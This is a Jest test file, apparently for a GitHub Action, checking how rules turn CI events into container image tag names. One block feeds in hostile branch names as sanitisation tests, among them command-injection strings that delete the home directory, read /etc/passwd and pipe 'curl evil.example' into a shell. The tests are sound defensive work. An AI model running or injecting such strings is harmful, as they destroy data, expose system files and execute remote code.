import { describe, expect, test } from '@jest/globals';
import { SHA } from '../../fixtures/runs.js';
import { branchPush, resolveFor, tagNamesFor, tagPush, type Run } from '../../fixtures/tags.js';

const PUSH: Run = { fixture: 'push' };
const TAG: Run = { fixture: 'push-tag' };
const PR: Run = { fixture: 'pull_request' };
const FORK_PR: Run = { fixture: 'pull_request_target' };
const DISPATCH: Run = { fixture: 'workflow_dispatch' };
const SCHEDULE: Run = { fixture: 'schedule' };
const RELEASE: Run = { fixture: 'release' };
const QUEUE: Run = { fixture: 'merge_group' };
const DETACHED: Run = { fixture: 'push', env: { GITHUB_REF: '' } };

describe('default rules (empty tags input): sha, branch, tag', () => {
  test.each<[string, Run, string[]]>([
    ['push to main', PUSH, ['sha-4f3c2b1', 'main']],
    ['push to a feature branch', branchPush('feature/login'), ['sha-4f3c2b1', 'feature-login']],
    ['tag push of a stable version: latest too', TAG, ['sha-a1b2c3d', 'v1.2.3', 'latest']],
    ['tag push of a pre-release: no latest', tagPush('v1.3.0-rc.1'), ['sha-a1b2c3d', 'v1.3.0-rc.1']],
    ['tag push of a non-version tag: no latest', tagPush('nightly'), ['sha-a1b2c3d', 'nightly']],
    ['pull_request: the head commit, no branch tag', PR, ['sha-9e8d7c6']],
    ["pull_request_target from a fork's main: never 'main'", FORK_PR, ['sha-5a5a5a5']],
    ['workflow_dispatch on release/2.x', DISPATCH, ['sha-4f3c2b1', 'release-2.x']],
    ['schedule', SCHEDULE, ['sha-4f3c2b1', 'main']],
    ['release', RELEASE, ['sha-a1b2c3d', 'v2.0.0', 'latest']],
    [
      'release event without GITHUB_REF',
      { fixture: 'release', env: { GITHUB_REF: undefined } },
      ['sha-a1b2c3d', 'v2.0.0', 'latest'],
    ],
    ['merge_group', QUEUE, ['sha-d00dfee', `gh-readonly-queue-main-pr-17-${SHA.main}`]],
    ['detached HEAD: the commit only', DETACHED, ['sha-4f3c2b1']],
    ['tag with slashes', tagPush('release/1.4.0'), ['sha-a1b2c3d', 'release-1.4.0']],
  ])('%s', (_name, run, expected) => {
    expect(tagNamesFor('', run)).toEqual(expected);
  });
});

describe('type=sha', () => {
  test.each<[string, string, Run, string[]]>([
    ['7 characters with sha- by default', 'type=sha', PUSH, ['sha-4f3c2b1']],
    ['length=8 without prefix (Travis style)', 'type=sha,length=8,prefix=', PUSH, ['4f3c2b1a']],
    ['format=short,length=12', 'type=sha,format=short,length=12', PUSH, ['sha-4f3c2b1a0e9d']],
    ['format=long', 'type=sha,format=long', PUSH, [`sha-${SHA.main}`]],
    ['format=long,prefix=', 'type=sha,format=long,prefix=', PUSH, [SHA.main]],
    ['length=64 on a 40-character id keeps all 40', 'type=sha,length=64,prefix=', PUSH, [SHA.main]],
    ['a pull request: its head commit', 'type=sha', PR, ['sha-9e8d7c6']],
    ['a merge queue: the group head', 'type=sha', QUEUE, ['sha-d00dfee']],
    ['a release: the released commit', 'type=sha', RELEASE, ['sha-a1b2c3d']],
    ['a stable tag push: no latest without a version or tag rule', 'type=sha', TAG, ['sha-a1b2c3d']],
    ['prefix={{branch}}-', 'type=sha,prefix={{branch}}-', PUSH, ['main-4f3c2b1']],
    ['prefix={{branch}}- on a tag push: no such tag', 'type=sha,prefix={{branch}}-', TAG, []],
    ['suffix with the run number', 'type=sha,prefix=,suffix=-{{run_number}}', PUSH, ['4f3c2b1-42']],
    ['enable=false', 'type=sha,enable=false', PUSH, []],
    ['enable={{is_default_branch}} on main', 'type=sha,enable={{is_default_branch}}', PUSH, ['sha-4f3c2b1']],
    ['enable={{is_default_branch}} elsewhere', 'type=sha,enable={{is_default_branch}}', DISPATCH, []],
    ['enable={{is_default_branch}} on a PR from main', 'type=sha,enable={{is_default_branch}}', FORK_PR, []],
    ['enable={{is_not_default_branch}} on main', 'type=sha,enable={{is_not_default_branch}}', PUSH, []],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});

describe('type=branch', () => {
  test.each<[string, string, Run, string[]]>([
    ['main', 'type=branch', PUSH, ['main']],
    ['slashes become -', 'type=branch', branchPush('feature/login/v2'), ['feature-login-v2']],
    ['dots, dashes and underscores stay', 'type=branch', branchPush('fix_1.2-x'), ['fix_1.2-x']],
    ['upper case stays', 'type=branch', branchPush('JIRA-123'), ['JIRA-123']],
    ['prefix and suffix', 'type=branch,prefix=br-,suffix=-snapshot', PUSH, ['br-main-snapshot']],
    ['suffix with the short sha', 'type=branch,suffix=-{{sha}}', PUSH, ['main-4f3c2b1']],
    ['not on a tag push', 'type=branch', TAG, []],
    ['not on a pull request', 'type=branch', PR, []],
    ['not on a detached HEAD', 'type=branch', DETACHED, []],
    ['schedule: the default branch', 'type=branch', SCHEDULE, ['main']],
    ['workflow_dispatch: the chosen branch', 'type=branch', DISPATCH, ['release-2.x']],
    ['merge_group: the queue branch', 'type=branch', QUEUE, [`gh-readonly-queue-main-pr-17-${SHA.main}`]],
    ['enable={{is_not_default_branch}} on main', 'type=branch,enable={{is_not_default_branch}}', PUSH, []],
    [
      'enable={{is_not_default_branch}} on a feature branch',
      'type=branch,enable={{is_not_default_branch}}',
      branchPush('feat/x'),
      ['feat-x'],
    ],
    ['unicode accents are dropped', 'type=branch', branchPush('feat/ünïcödé'), ['feat-unicode']],
    ['other unicode becomes -', 'type=branch', branchPush('feat/日本語'), ['feat-']],
    ['emoji become -', 'type=branch', branchPush('fix/🔥-hot'), ['fix--hot']],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});

describe('hostile branch names come out as inert tag text', () => {
  const TAG_NAME = /^[A-Za-z0-9_][A-Za-z0-9._-]{0,127}$/;
  test.each<[string, string]>([
    ['$(touch /tmp/x)', 'touch-tmp-x-'],
    ['`id`', 'id-'],
    ['a;rm -rf ~', 'a-rm--rf-'],
    ['--force', 'force'],
    ['-rf', 'rf'],
    ['line\nbreak', 'line-break'],
    ['cr\r\nlf', 'cr-lf'],
    ['tab\there', 'tab-here'],
    ['..hidden', 'hidden'],
    ['.-.-x', 'x'],
    ['${IFS}cat${IFS}/etc/passwd', 'IFS-cat-IFS-etc-passwd'],
    ['x||curl evil.example|sh', 'x-curl-evil.example-sh'],
    ['a&&b', 'a-b'],
    ['it\'s "quoted"', 'it-s-quoted-'],
    ['<script>alert(1)</script>', 'script-alert-1-script-'],
    ['$HOME', 'HOME'],
    ['~/x', 'x'],
    ['x:latest', 'x-latest'],
    ['x@sha256:abc', 'x-sha256-abc'],
    ['a\\b', 'a-b'],
    ['null\0byte', 'null-byte'],
  ])('%j → %s', (branch, expected) => {
    const [name] = tagNamesFor('type=branch', branchPush(branch));
    expect(name).toBe(expected);
    expect(name).toMatch(TAG_NAME);
  });
});

describe('long branch names', () => {
  const long = (tail: string): string => `feature/${'a'.repeat(280)}${tail}`;

  test('a 300-character branch is cut to 128 with a hash of the whole name', () => {
    const [name] = tagNamesFor('type=branch', branchPush(long('-one-twelve')));
    expect(name).toHaveLength(128);
    expect(name).toBe(`feature-${'a'.repeat(112)}-3f43e32`);
  });

  test('two long branches sharing their first 120 characters stay distinct', () => {
    const [one] = tagNamesFor('type=branch', branchPush(long('-one')));
    const [two] = tagNamesFor('type=branch', branchPush(long('-two')));
    expect(one).not.toBe(two);
    expect(one?.slice(0, 121)).toBe(two?.slice(0, 121));
  });

  test('a prefix counts towards the 128 characters', () => {
    const [name] = tagNamesFor('type=branch,prefix=build-', branchPush(long('')));
    expect(name).toHaveLength(128);
    expect(name?.startsWith('build-feature-aaa')).toBe(true);
  });

  test('exactly 128 characters is kept whole', () => {
    const branch = 'b'.repeat(128);
    expect(tagNamesFor('type=branch', branchPush(branch))).toEqual([branch]);
  });
});

describe('type=tag', () => {
  test.each<[string, string, Run, string[]]>([
    ['the git tag; a stable version also gets latest', 'type=tag', TAG, ['v1.2.3', 'latest']],
    ['a git tag that is no version: no latest', 'type=tag', tagPush('build-77'), ['build-77']],
    ['latest=false', 'type=tag', { ...TAG, latest: 'false' }, ['v1.2.3']],
    ['with prefix and suffix', 'type=tag,prefix=app-,suffix=-amd64', TAG, ['app-v1.2.3-amd64', 'latest']],
    ['slashes become -', 'type=tag', tagPush('release/1.4.0'), ['release-1.4.0']],
    ['a release', 'type=tag', RELEASE, ['v2.0.0', 'latest']],
    ['not on a branch push', 'type=tag', PUSH, []],
    ['not on a pull request', 'type=tag', PR, []],
    [
      'workflow_dispatch on a tag',
      'type=tag',
      { fixture: 'workflow_dispatch', env: { GITHUB_REF: 'refs/tags/v3.1.0' } },
      ['v3.1.0', 'latest'],
    ],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});

describe('type=pr', () => {
  test.each<[string, string, Run, string[]]>([
    ['pr-<number>', 'type=pr', PR, ['pr-17']],
    ['pull_request_target', 'type=pr', FORK_PR, ['pr-23']],
    ['prefix=', 'type=pr,prefix=', PR, ['17']],
    ['own prefix and suffix', 'type=pr,prefix=pull-,suffix=-{{sha}}', PR, ['pull-17-9e8d7c6']],
    ['not on a push', 'type=pr', PUSH, []],
    [
      'pull request without payload: number from the ref',
      'type=pr',
      { fixture: 'pull_request', env: { GITHUB_EVENT_PATH: undefined } },
      ['pr-17'],
    ],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});

describe('type=raw', () => {
  test.each<[string, string, Run, string[]]>([
    ['a fixed value', 'type=raw,value=edge', PUSH, ['edge']],
    ['branch and sha', 'type=raw,value={{branch}}-{{sha}}', PUSH, ['main-4f3c2b1']],
    ['branch and sha on a tag push: no branch, no tag', 'type=raw,value={{branch}}-{{sha}}', TAG, []],
    ['the run number', 'type=raw,value=build-{{run_number}}', PUSH, ['build-42']],
    [
      'no run number outside CI: no tag',
      'type=raw,value=build-{{run_number}}',
      { fixture: 'push', env: { GITHUB_RUN_NUMBER: undefined } },
      [],
    ],
    [
      'a nightly date (run time, UTC)',
      "type=raw,value=nightly-{{date 'YYYYMMDD'}}",
      SCHEDULE,
      ['nightly-20240503'],
    ],
    ['{{date}} defaults to YYYYMMDD', 'type=raw,value={{date}}', SCHEDULE, ['20240503']],
    ['date and time', "type=raw,value={{date 'YYYY.MM.DD-HHmmss'}}", PUSH, ['2024.05.03-040506']],
    ['two-digit year', "type=raw,value={{date 'YYMMDD'}}", PUSH, ['240503']],
    ['the commit date', "type=raw,value={{commit_date 'YYYYMMDD-HHmm'}}", PUSH, ['20240502-0915']],
    [
      'commit date unknown (pull request): the run date',
      "type=raw,value={{commit_date 'YYYYMMDD'}}",
      PR,
      ['20240503'],
    ],
    ['the git tag', 'type=raw,value=release-{{tag}}', TAG, ['release-v1.2.3']],
    ['the base branch of a pull request', 'type=raw,value={{base_ref}}-preview', PR, ['main-preview']],
    ['illegal characters become -', 'type=raw,value=a b/c', PUSH, ['a-b-c']],
    [
      'enable={{is_default_branch}} on main',
      'type=raw,value=edge,enable={{is_default_branch}}',
      PUSH,
      ['edge'],
    ],
    ['enable={{is_default_branch}} on a PR', 'type=raw,value=edge,enable={{is_default_branch}}', PR, []],
    [
      "'latest' as a raw value stays, whatever the latest input",
      'type=raw,value=latest',
      { fixture: 'push', latest: 'false' },
      ['latest'],
    ],
    ['placeholders are case-insensitive', 'type=raw,value={{ BRANCH }}', PUSH, ['main']],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});

describe('several rules', () => {
  test.each<[string, string, Run, string[]]>([
    ['written order is kept', 'type=branch\ntype=sha', PUSH, ['main', 'sha-4f3c2b1']],
    ['duplicates are dropped, the first kept', 'type=sha\ntype=sha,length=7', PUSH, ['sha-4f3c2b1']],
    ['the same name from two kinds once', 'type=raw,value=main\ntype=branch', PUSH, ['main']],
    [
      'disabled rules leave no gap',
      'type=sha,enable=false\ntype=branch\ntype=raw,value=edge',
      PUSH,
      ['main', 'edge'],
    ],
    [
      'comments and blank lines are ignored',
      '# commit\ntype=sha\n\n  # branch\ntype=branch\n',
      PUSH,
      ['sha-4f3c2b1', 'main'],
    ],
    ['CRLF line ends', 'type=sha\r\ntype=branch\r\n', PUSH, ['sha-4f3c2b1', 'main']],
    ['indentation from a YAML block', '  type=sha , length=8\n  type=branch', PUSH, ['sha-4f3c2b1a', 'main']],
    ['a rule made only of comments is the default set', '# nothing yet', PUSH, ['sha-4f3c2b1', 'main']],
    ['nothing applies: no tags', 'type=tag\ntype=pr', PUSH, []],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});

describe('what each resolved tag says about itself', () => {
  test('sha, branch, pr and raw', () => {
    expect(
      resolveFor('type=sha\ntype=branch\ntype=raw,value=edge\ntype=raw,value={{branch}}-{{sha}}', PUSH).tags,
    ).toEqual([
      { name: 'sha-4f3c2b1', kind: 'sha', moving: false, rule: 'type=sha' },
      { name: 'main', kind: 'branch', moving: true, rule: 'type=branch' },
      { name: 'edge', kind: 'raw', moving: true, rule: 'type=raw,value=edge' },
      { name: 'main-4f3c2b1', kind: 'raw', moving: false, rule: 'type=raw,value={{branch}}-{{sha}}' },
    ]);
    expect(resolveFor('type=pr', PR).tags).toEqual([
      { name: 'pr-17', kind: 'pr', moving: true, rule: 'type=pr' },
    ]);
  });

  test('a moving kind made unique by {{sha}} in its suffix does not move', () => {
    expect(resolveFor('type=branch,suffix=-{{sha}}', PUSH).tags[0]).toMatchObject({
      name: 'main-4f3c2b1',
      moving: false,
    });
  });

  test('the git tag and latest', () => {
    expect(resolveFor('type=tag', TAG).tags).toEqual([
      { name: 'v1.2.3', kind: 'tag', moving: false, rule: 'type=tag' },
      { name: 'latest', kind: 'latest', moving: true, version: '1.2.3', rule: 'latest: auto' },
    ]);
  });
});

describe('resolution errors name the rule and the fix', () => {
  test.each<[string, string, Run, string]>([
    [
      'a branch with no tag character',
      'type=branch',
      branchPush('日本語'),
      `Input 'tags': 'type=branch' is not valid; here it gives "日本語", which has no character an image tag can hold (A-Z a-z 0-9 _ . -); add a prefix= such as prefix=branch- or turn the rule off with enable=false.`,
    ],
    [
      'a raw value of punctuation',
      'type=raw,value=+++',
      PUSH,
      `Input 'tags': 'type=raw,value=+++' is not valid; here it gives "+++", which has no character an image tag can hold (A-Z a-z 0-9 _ . -); add a prefix= such as prefix=raw- or turn the rule off with enable=false.`,
    ],
    [
      'a newline in the offending text is shown escaped',
      'type=branch',
      branchPush('--\n--'),
      `Input 'tags': 'type=branch' is not valid; here it gives "--\\n--", which has no character an image tag can hold (A-Z a-z 0-9 _ . -); add a prefix= such as prefix=branch- or turn the rule off with enable=false.`,
    ],
  ])('%s', (_name, rules, run, message) => {
    expect(() => tagNamesFor(rules, run)).toThrow(message);
  });

  test('the suggested prefix fixes it', () => {
    expect(tagNamesFor('type=branch,prefix=branch-', branchPush('日本語'))).toEqual(['branch--']);
  });
});

describe('the version output', () => {
  test.each<[string, string, Run, string | undefined]>([
    ['a branch build: the branch tag', '', PUSH, 'main'],
    ['a tag build: the git tag', '', TAG, 'v1.2.3'],
    ['a pull request: pr-<n>', 'type=sha\ntype=pr', PR, 'pr-17'],
    [
      'semver: the full version, before the floating tags',
      'type=semver,pattern={{major}}.{{minor}}\ntype=sha',
      TAG,
      '1.2.3',
    ],
    [
      'semver with build metadata: as semver writes it',
      'type=semver',
      tagPush('v1.2.3+build.5'),
      '1.2.3+build.5',
    ],
    [
      'upstream: the exact upstream tag',
      'type=sha\ntype=upstream,version=8.0.12,revision=c15',
      PUSH,
      '8.0.12-c15',
    ],
    ['only a sha: the sha tag', 'type=sha', PUSH, 'sha-4f3c2b1'],
    ['no tags: no version', 'type=tag', PUSH, undefined],
  ])('%s', (_name, rules, run, expected) => {
    expect(resolveFor(rules, run).version).toBe(expected);
  });
});

describe('the README recipes', () => {
  const TRAVIS = 'type=sha,length=8,prefix=\ntype=branch,enable={{is_not_default_branch}}';
  const SEMVER =
    'type=semver,pattern={{version}}\ntype=semver,pattern={{major}}.{{minor}}\ntype=semver,pattern={{major}}';
  const ECR_RELEASE = SEMVER.split('\n')
    .map((rule) => `${rule},match=^ecr-release-(.*)$`)
    .join('\n');
  const NIGHTLY = "type=raw,value=nightly\ntype=raw,value=nightly-{{date 'YYYYMMDD'}}";
  test.each<[string, string, Run, string[]]>([
    ['Travis style on main', TRAVIS, { ...PUSH, latest: 'main' }, ['4f3c2b1a', 'latest']],
    [
      'Travis style on a feature branch',
      TRAVIS,
      { ...branchPush('feat/x'), latest: 'main' },
      ['4f3c2b1a', 'feat-x'],
    ],
    ['Travis style on a pull request', TRAVIS, { ...PR, latest: 'main' }, ['9e8d7c6b']],
    ['commit ids only', 'type=sha,format=long,prefix=', { ...TAG, latest: 'false' }, [SHA.release]],
    ['semver release', SEMVER, TAG, ['1.2.3', '1.2', '1', 'latest']],
    ['semver pre-release', SEMVER, tagPush('v1.3.0-rc.1'), ['1.3.0-rc.1']],
    ['semver 0.x', SEMVER, tagPush('v0.4.2'), ['0.4.2', '0.4', 'latest']],
    [
      'upstream plus revision',
      'type=upstream,version=8.0.12,revision=c15,floating=true\ntype=sha',
      PUSH,
      ['8.0.12-c15', '8.0-c15', '8-c15', 'sha-4f3c2b1', 'latest'],
    ],
    ['release git tags', ECR_RELEASE, tagPush('ecr-release-0.1.0'), ['0.1.0', '0.1', 'latest']],
    ['nightly', NIGHTLY, { ...SCHEDULE, latest: 'false' }, ['nightly', 'nightly-20240503']],
  ])('%s', (_name, rules, run, expected) => {
    expect(tagNamesFor(rules, run)).toEqual(expected);
  });
});
